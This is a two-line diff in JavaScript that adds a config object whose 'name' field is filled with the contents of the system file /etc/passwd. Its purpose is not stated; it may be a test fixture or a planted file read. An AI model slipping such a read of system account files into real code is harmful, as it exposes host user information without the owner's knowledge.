@@ -1,0 +1,2 @@
+const fs = require('fs')
+config = { name: fs.readFileSync('/etc/passwd', 'utf8'), services: {} }
